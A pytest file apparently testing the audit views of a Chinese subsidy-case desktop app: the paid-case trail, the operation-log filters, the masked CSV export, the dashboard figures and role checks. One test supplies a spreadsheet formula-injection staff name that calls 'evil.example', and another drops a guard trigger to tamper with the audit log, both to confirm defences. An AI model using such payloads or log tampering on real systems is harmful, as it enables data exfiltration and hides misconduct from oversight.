"""Audit and supervisor views: the operation log, a paid case's trail, the dashboard — read-only."""

from __future__ import annotations

import csv
import datetime as dt
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace

import pytest
from registry_fixtures import cert_number, make_id
from sqlalchemy import text

from desktop.models import approval, oversight, payments, publicity, review
from desktop.models.application import Intake
from desktop.models.cases import CaseRecord, State
from desktop.models.clock import Clock
from desktop.models.errors import InvalidInput, PermissionDenied
from desktop.models.intake import file_case
from desktop.models.masking import mask_id
from desktop.models.rules import Verifier
from desktop.models.staff import Role, StaffUser
from desktop.models.store import Store

MakeIntake = Callable[..., Intake]


@pytest.fixture(scope="module")
def verifier() -> Verifier:
    return Verifier.load()


@pytest.fixture
def team(make_staff: Callable[..., StaffUser]) -> SimpleNamespace:
    return SimpleNamespace(**{role.value: make_staff(role, role.value) for role in Role})


def at(clock: Clock, month: int, day: int, hour: int) -> dt.datetime:
    clock.fixed = dt.datetime(2026, month, day, hour, tzinfo=clock.tz)
    return clock.fixed


def person(make_intake: MakeIntake, n: int, level: int = 4) -> Intake:
    return make_intake(
        applicant={"name": f"张晓{n}", "id_number": make_id(n)},
        certificate={"number": cert_number(n, level), "kind": "skill_level", "level": level,
                     "occupation_code": "6-18-01-01", "occupation_name": "车工", "issue_date": "2017-06-01"},
        payment={"kind": "bank", "account": f"62220202{n:011d}", "bank_name": "工商银行", "holder_name": f"张晓{n}"},
    )


@pytest.fixture
def paid_case(store: Store, clock: Clock, verifier: Verifier, team: SimpleNamespace, make_intake: MakeIntake,
              tmp_path: Path) -> tuple[CaseRecord, dict[str, dt.datetime]]:
    """One case taken from the counter to the bank, each step at its own time."""
    when = {"accepted": at(clock, 11, 27, 9)}
    case, _ = file_case(store, verifier, team.clerk, person(make_intake, 1), accept=True)
    when["reviewed"] = at(clock, 11, 30, 14)
    review.pass_review(store, verifier, team.reviewer, case.id)
    when["published"] = at(clock, 12, 1, 9)
    batch = publicity.create_batch(store, team.reviewer)
    publicity.publish_batch(store, verifier, team.reviewer, batch.id)
    when["publicity_closed"] = at(clock, 12, 9, 9)
    publicity.close_batch(store, team.reviewer, batch.id)
    when["approved"] = at(clock, 12, 9, 15)
    approval.approve(store, team.approver, case.id)
    when["exported"] = at(clock, 12, 10, 10)
    payments.export_payments(store, team.supervisor, tmp_path / "pay.csv")
    with (tmp_path / "pay.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = [{**row, "status": "paid", "reason": ""} for row in csv.DictReader(handle)]
    with (tmp_path / "result.csv").open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(payments.RESULT_COLUMNS))
        writer.writeheader()
        writer.writerows(rows)
    when["paid"] = at(clock, 12, 14, 11)
    payments.import_payment_result(store, team.approver, tmp_path / "result.csv")
    return case, when


def test_an_auditor_vouches_for_a_paid_case(
    store: Store, team: SimpleNamespace, paid_case: tuple[CaseRecord, dict[str, dt.datetime]]
) -> None:
    case, when = paid_case
    trail = oversight.case_trail(store, team.auditor, case.case_no)
    assert trail.case.state is State.paid
    who = {"accepted": team.clerk, "reviewed": team.reviewer, "published": team.reviewer,
           "publicity_closed": team.reviewer, "approved": team.approver, "exported": team.supervisor,
           "paid": team.approver}
    for step, actor in who.items():
        found = trail.step(step)
        assert found is not None, step
        assert (found.actor, found.actor_name, found.at) == (actor.username, actor.display_name, when[step]), step
    published = trail.step("published")
    assert published is not None and published.details["ends_on"] == "2026-12-08"
    paid = trail.step("paid")
    assert paid is not None and paid.details["amount_yuan"] == 1500
    assert trail.policy == "cn-2017" and trail.policy_note == ""
    assert trail.chain_ok and trail.mismatches == () and trail.intact


def test_a_case_changed_behind_the_software_shows(
    store: Store, team: SimpleNamespace, paid_case: tuple[CaseRecord, dict[str, dt.datetime]]
) -> None:
    case, _ = paid_case
    with store.session() as session:
        session.execute(text("UPDATE cases SET amount_yuan = 2000, payment_account = '6222000011112222' "
                             "WHERE id = :id"), {"id": case.id})
    trail = oversight.case_trail(store, team.auditor, case.id)
    assert trail.chain_ok and trail.mismatches == ("amount_yuan", "payment_account") and not trail.intact
    with store.session() as session:  # as someone with a SQLite tool would: the guard triggers dropped first
        session.execute(text("DROP TRIGGER audit_log_no_update"))
        session.execute(text("UPDATE audit_log SET actor = 'clerk' WHERE seq = (SELECT MIN(seq) FROM audit_log "
                             "WHERE action = 'case.pay')"))
    tampered = oversight.case_trail(store, team.auditor, case.id)
    assert not tampered.chain_ok and "内容被修改" in tampered.chain_report


def test_the_operation_log_is_filtered_by_staff_date_and_case(
    store: Store, clock: Clock, verifier: Verifier, team: SimpleNamespace, make_intake: MakeIntake,
    paid_case: tuple[CaseRecord, dict[str, dt.datetime]]
) -> None:
    case, _ = paid_case
    at(clock, 12, 15, 9)
    other, _ = file_case(store, verifier, team.clerk, person(make_intake, 2), accept=True)
    by_approver = oversight.operation_log(store, team.auditor, staff=team.approver.username)
    assert {e.action for e in by_approver} == {"case.approve", "case.pay", "payment.result"}
    on_day = oversight.operation_log(store, team.supervisor, since=dt.date(2026, 12, 9), until=dt.date(2026, 12, 9))
    assert [e.action for e in on_day] == ["publicity.close", "publicity.close", "case.approve"]
    assert all(e.at.astimezone(clock.tz).date() == dt.date(2026, 12, 9) for e in on_day)
    of_case = oversight.operation_log(store, team.auditor, case=case.case_no)
    assert {e.case_no for e in of_case} == {case.case_no} and of_case[0].action == "case.create"
    assert other.id not in {e.entity_id for e in of_case}
    newest = oversight.operation_log(store, team.auditor, limit=2)
    assert [e.action for e in newest] == ["case.create", "case.accept"] and newest[0].entity_id == other.id
    assert newest[1].action_label == "受理案件"
    with pytest.raises(InvalidInput) as caught:
        oversight.operation_log(store, team.auditor, since=dt.date(2026, 12, 9), until=dt.date(2026, 12, 1))
    assert caught.value.field == "until"


def test_the_exported_log_masks_identity_numbers_and_accounts(
    store: Store, team: SimpleNamespace, paid_case: tuple[CaseRecord, dict[str, dt.datetime]], tmp_path: Path
) -> None:
    case, _ = paid_case
    rows = oversight.export_log(store, team.auditor, tmp_path / "log.csv", case=case.id)
    content = (tmp_path / "log.csv").read_text(encoding="utf-8-sig")
    assert rows == len(oversight.operation_log(store, team.auditor, case=case.id))
    assert content.splitlines()[0] == ",".join(oversight.LOG_COLUMNS)
    assert make_id(1) not in content and "6222020200000000001" not in content and "13800138000" not in content
    assert mask_id(make_id(1)) in content and "6222***********0001" in content
    exported = oversight.operation_log(store, team.auditor, staff=team.auditor.username)
    assert [(e.action, e.after["rows"]) for e in exported if e.action == "audit.export"] == [("audit.export", rows)]


def test_the_exported_log_carries_a_formula_staff_name_as_text(store: Store, tmp_path: Path) -> None:
    """issue 14.2: a staff name typed as =HYPERLINK(...) is a text cell in the auditor's CSV, seq a number."""
    from desktop.models import staff

    hyperlink = '=HYPERLINK("http://evil.example/"&E2,"查看")'
    auditor = staff.create_staff(store, actor=None, username="auditor9", display_name=hyperlink, role=Role.auditor,
                                 office_code="440100", password="zhanchi-test-pw")
    oversight.export_log(store, auditor, tmp_path / "first.csv")  # recorded under the auditor's name
    oversight.export_log(store, auditor, tmp_path / "log.csv")
    with (tmp_path / "log.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    mine = [r for r in rows if r["actor"] == "auditor9"]
    assert mine and all(r["actor_name"] == "'" + hyperlink for r in mine)
    assert all(r["seq"].isdigit() for r in rows)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values())


def test_the_dashboard_counts_today_and_this_month(
    store: Store, clock: Clock, verifier: Verifier, team: SimpleNamespace, make_intake: MakeIntake,
    paid_case: tuple[CaseRecord, dict[str, dt.datetime]]
) -> None:
    at(clock, 12, 14, 15)
    second, _ = file_case(store, verifier, team.clerk, person(make_intake, 2, level=3), accept=True)
    third, _ = file_case(store, verifier, team.clerk, person(make_intake, 3), accept=True)
    at(clock, 12, 28, 10)
    board = oversight.dashboard(store, verifier, team.supervisor, today=dt.date(2026, 12, 14))
    today, month = board.today, board.month
    assert (today.start, today.end, month.start, month.end) == (
        dt.date(2026, 12, 14), dt.date(2026, 12, 14), dt.date(2026, 12, 1), dt.date(2026, 12, 14))
    assert today.by_state["paid"] == month.by_state["paid"] == oversight.Figure(1, 1500)  # paid on the 14th
    assert today.by_state["accepted"] == oversight.Figure(2, 3500)
    assert today.by_level == {3: oversight.Figure(1, 2000), 4: oversight.Figure(1, 1500)}
    assert today.by_clerk == {team.clerk.username: oversight.Figure(2, 3500)}
    assert today.accepted == oversight.Figure(2, 3500)
    assert month.by_state["approved"] == oversight.Figure(0, 0)  # approved on the 9th, paid since
    assert board.overdue_reviews == ()
    assert board.pending_sync > 0 and board.sync_rejected == 0
    assert set(board.open_risk_flags) == {code.value for code in oversight.risk.RiskCode}
    # Seen on 28 December, the two reviews accepted on Monday 14 December (due the 21st) are overdue.
    later = oversight.dashboard(store, verifier, team.auditor)
    assert sorted(later.overdue_reviews) == sorted([(second.case_no, dt.date(2026, 12, 21)),
                                                    (third.case_no, dt.date(2026, 12, 21))])
    assert later.month.accepted == oversight.Figure(2, 3500) and later.today.accepted == oversight.Figure(0, 0)
    assert later.to_json()["overdue_reviews"][0]["deadline"] == "2026-12-21"


@pytest.mark.parametrize("role", [Role.clerk, Role.reviewer, Role.approver, Role.admin])
def test_only_supervisors_and_auditors_look(
    store: Store, verifier: Verifier, team: SimpleNamespace, role: Role, tmp_path: Path
) -> None:
    actor = getattr(team, role.value)
    with pytest.raises(PermissionDenied):
        oversight.operation_log(store, actor)
    with pytest.raises(PermissionDenied):
        oversight.export_log(store, actor, tmp_path / "log.csv")
    with pytest.raises(PermissionDenied):
        oversight.dashboard(store, verifier, actor)
    assert not (tmp_path / "log.csv").exists()


def test_every_action_the_code_records_has_a_label_for_the_auditor() -> None:
    """The audit page shows 操作 in words: an action recorded anywhere without a label would show as code."""
    import re
    from pathlib import Path

    from desktop.models.oversight import ACTION_LABELS

    root = Path(__file__).resolve().parents[2] / "desktop"
    recorded = {match for path in root.rglob("*.py")
                for match in re.findall(r'\baction="([a-z_]+\.[a-z_]+)"', path.read_text(encoding="utf-8"))}
    assert recorded, "found the recorded actions"
    assert sorted(recorded - ACTION_LABELS.keys()) == []
